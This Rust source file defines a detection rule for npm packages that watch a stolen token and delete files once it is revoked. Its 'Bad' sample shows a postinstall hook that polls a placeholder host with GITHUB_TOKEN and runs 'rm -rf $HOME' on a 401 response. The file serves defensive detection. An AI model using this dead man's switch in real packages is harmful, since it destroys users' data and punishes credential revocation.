//! # A stolen token is watched, and files are deleted when it dies
//!
//! Code sends a token to a host again and again, and the same code deletes the home folder.
//!
//! ## Why it matters
//!
//! A dead man's switch: whoever revokes the token first loses the files. Take the machine off the network and stop
//! the watcher before any token is revoked.
//!
//! ## Known benign uses
//!
//! None.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node watch.js"}}
//! == watch.js
//! const { execSync } = require("child_process");
//! const token = process.env.GITHUB_TOKEN;
//! setInterval(async () => {
//!   const reply = await fetch("https://api.forge.invalid/user", { headers: { authorization: `token ${token}` } });
//!   if (reply.status === 401) execSync("rm -rf $HOME"); //~ here
//! }, 60_000);
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! exports.poll = (address, token, expired) => setInterval(async () => {
//!   const reply = await fetch(address, { headers: { authorization: token } });
//!   if (reply.status === 401) expired();
//! }, 60_000);
//! ```
//!
//! ## References
//!
//! - StepSecurity: the TanStack worm (May 2026)

use crate::prelude::*;

/// A stolen token is watched, and files are deleted when it dies.
pub struct RevocationPunished;

impl Rule for RevocationPunished {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "revocation-punished",
            title: "A stolen token is watched, and files are deleted when it dies",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1485",
            covers: &["impact-dead-man-switch"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let tells_secret = |file: &str| {
            let leaves = |sink: &Sink| matches!(sink, Sink::Network(_));
            facts.flows(Source::is_secret, leaves).any(|flow| facts.locus(flow.sink_spot).file == file)
        };
        let waits = |file: &str| {
            facts.calls(&["setInterval", "setTimeout"]).any(|call| facts.locus(call.spot).file == file)
        };
        for (trigger, locus) in deletions(facts) {
            if trigger != Trigger::Dormant && tells_secret(&locus.file) && waits(&locus.file) {
                found.at(trigger, &locus, "deletes everything beside a watch on a token");
            }
        }
    }
}

/// Deletions of the home folder, a drive or the root.
fn deletions(facts: &Facts<'_>) -> Vec<(Trigger, Locus)> {
    let is_wide = |command: &&CommandFact| {
        command.behaviours.iter().any(|kind| matches!(kind, BehaviourKind::DeletesWide { .. }))
    };
    let commands =
        facts.commands().iter().filter(is_wide).map(|command| (command.trigger, command.locus.clone()));
    let deleted = facts.file_changes().filter(|change| change.kind == ChangeKind::Deleted);
    let calls =
        deleted.filter(|change| change.class() == FileClass::WideFolder && change.trigger().runs_unasked());
    commands.chain(calls.map(|change| (change.trigger(), facts.locus(change.call.spot)))).collect()
}
